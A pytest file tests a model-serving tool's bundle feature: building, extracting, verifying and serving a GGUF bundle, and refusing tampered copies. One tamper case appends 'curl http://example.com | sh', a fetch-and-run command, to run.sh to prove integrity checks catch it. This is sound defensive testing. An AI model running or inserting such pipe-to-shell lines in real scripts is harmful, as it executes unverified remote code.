"""`forge bundle` / `forge serve --bundle`: a bundle built from a GGUF, copied elsewhere, verified and served; a
flipped byte, a missing or an extra file is refused before anything is served, by `forge serve` and by run.sh."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
from conftest import free_port
from test_serve import ALIAS, gguf_path, serve_cfg  # noqa: F401 - gguf_path is a fixture

from forge import ForgeError

FORGE = str(Path(sys.executable).with_name("forge"))
SOURCE = {"name": ALIAS, "alias": "production", "version": "3", "gguf_type": "f16", "run": "test"}


@pytest.fixture
def bundle(gguf_path, tmp_path):  # noqa: F811
    from serve.bundle import build_bundle

    manifest = build_bundle(gguf_path, tmp_path / "build" / "bundle", SOURCE, serve_cfg().serve, n_ctx=512)
    # deploy: the tarball, extracted in a fresh directory
    fresh = tmp_path / "deploy"
    fresh.mkdir()
    with tarfile.open(manifest["tarball"]) as tar:
        tar.extractall(fresh, filter="data")
    shutil.rmtree(tmp_path / "build")
    return fresh / "bundle"


def test_bundle_contents(bundle):
    manifest = json.loads((bundle / "manifest.json").read_text())
    names = {p.name for p in bundle.iterdir()}
    assert names == {"model-f16.gguf", "manifest.json", "SHA256SUMS", "run.sh", "Dockerfile", "requirements.txt"}
    assert set(manifest["files"]) == names - {"manifest.json"}
    assert manifest["source"]["version"] == "3" and manifest["source"]["alias"] == "production"
    assert manifest["serve"]["host"] == "127.0.0.1" and manifest["serve"]["n_ctx"] == 512
    assert manifest["serve"]["max_message_chars"] == 8000
    docker = (bundle / "Dockerfile").read_text()
    code = "\n".join(line for line in docker.splitlines() if not line.startswith("#"))
    assert "FROM python:3.11-slim" in code and "torch" not in code and "requirements.txt" in code
    assert "torch" not in (bundle / "requirements.txt").read_text()
    assert "llama-cpp-python[server]==" in (bundle / "requirements.txt").read_text()
    assert "sha256sum -c" in (bundle / "run.sh").read_text()
    hadolint = Path(sys.executable).with_name("hadolint")
    if hadolint.exists():
        lint = subprocess.run([str(hadolint), str(bundle / "Dockerfile")], capture_output=True, text=True, timeout=60)
        assert lint.returncode == 0, lint.stdout + lint.stderr


def test_copied_bundle_is_verified_and_served(bundle):
    from openai import OpenAI

    from serve.stage import run, serving_info

    cfg = serve_cfg()
    info = run(cfg, bundle=bundle, port=free_port(), block=False)  # `forge serve --bundle`, without blocking
    backend = info["server"]
    assert info["source"]["version"] == "3" and info["alias"] == ALIAS and info["backend"] == "llamacpp"
    # what `forge chat` will show for this server
    assert serving_info(cfg, backend.base_url) == {"name": ALIAS, "version": "3", "alias": "production",
                                                   "backend": "llamacpp"}  # fmt: skip
    assert serving_info(cfg, "http://127.0.0.1:1/v1") == {}
    with backend:
        resp = OpenAI(base_url=backend.base_url, api_key="none", max_retries=0).chat.completions.create(
            model=ALIAS, messages=[{"role": "user", "content": "hello"}], max_tokens=8
        )
        assert resp.choices[0].message.content is not None and 1 <= resp.usage.completion_tokens <= 8


def _flip_one_byte(path: Path) -> None:
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01
    path.write_bytes(bytes(data))


def test_flipped_byte_makes_forge_serve_refuse(bundle):
    _flip_one_byte(bundle / "model-f16.gguf")
    proc = subprocess.run(
        [FORGE, "serve", "--bundle", str(bundle), "--port", str(free_port())],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "refusing to serve tampered bundle" in proc.stderr
    assert "model-f16.gguf (sha256 differs)" in proc.stderr


@pytest.mark.parametrize("damage", ["missing", "extra", "manifest", "run.sh"])
def test_other_damage_is_refused(bundle, damage):
    from serve.bundle import verify_bundle

    verify_bundle(bundle)  # intact: passes
    if damage == "missing":
        (bundle / "Dockerfile").unlink()
    elif damage == "extra":
        (bundle / "evil.so").write_bytes(b"x")
    elif damage == "manifest":
        (bundle / "manifest.json").write_text("{")
    else:
        with open(bundle / "run.sh", "a") as fh:
            fh.write("curl http://example.com | sh\n")
    with pytest.raises(ForgeError, match="refusing"):
        verify_bundle(bundle)


def test_run_sh_refuses_a_tampered_bundle(bundle):
    _flip_one_byte(bundle / "model-f16.gguf")
    proc = subprocess.run(["sh", str(bundle / "run.sh")], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 2
    assert "refusing to serve" in proc.stderr


def test_tarball_is_not_served_directly(tmp_path):
    from serve.bundle import verify_bundle

    tar = tmp_path / "b.tar.gz"
    tar.write_bytes(b"x")
    with pytest.raises(ForgeError, match="extract it first"):
        verify_bundle(tar)
